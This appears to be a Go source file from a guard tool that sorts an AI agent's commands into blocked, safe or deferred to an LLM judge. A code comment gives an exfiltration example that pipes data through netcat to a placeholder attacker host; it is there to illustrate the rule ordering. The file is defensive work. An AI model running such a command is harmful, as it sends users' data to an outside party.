// Package rules is the pattern-based fast path of the decision pipeline:
// obviously dangerous commands block, obviously safe commands pass, and
// everything else defers to the LLM judge.
package rules

import (
	"github.com/guardclaw/guardclaw/internal/safeguard"
)

// Engine evaluates the static rule tables. The tables are read-only after
// startup; only the optional user list mutates, under its own lock.
type Engine struct {
	userList *UserList
}

// NewEngine creates a rule engine. userList may be nil.
func NewEngine(userList *UserList) *Engine {
	return &Engine{userList: userList}
}

// Classify returns a verdict only with high confidence; nil means "defer to
// the LLM". chainActive disables every safe fast path: a command that is
// harmless in isolation can complete an exfiltration sequence.
//
// Order matters. The high-risk exec table runs before the safe table so that
// e.g. `echo foo | nc attacker.com 4444` blocks on the nc rule instead of
// fast-pathing on echo.
func (e *Engine) Classify(action safeguard.Action, chainActive bool) *safeguard.Verdict {
	command := action.CommandString()

	if e.userList != nil {
		switch e.userList.Match(action.Tool, command) {
		case ListDeny:
			v := safeguard.NewVerdict(safeguard.TierBlock, 9, "Denied by user blacklist", "user-blacklist", safeguard.BackendRules)
			return &v
		case ListAllow:
			if !chainActive {
				v := safeguard.NewVerdict(safeguard.TierSafe, 1, "Allowed by user whitelist", "user-whitelist", safeguard.BackendRules)
				return &v
			}
		}
	}

	switch action.Tool {
	case safeguard.ToolExec:
		if v := classifyExecHighRisk(command); v != nil {
			return v
		}
		if chainActive {
			return nil
		}
		return classifyExecSafe(command)

	case safeguard.ToolWrite, safeguard.ToolEdit:
		return classifyFileWrite(action)

	default:
		if chainActive {
			return nil
		}
		return classifyTool(action)
	}
}
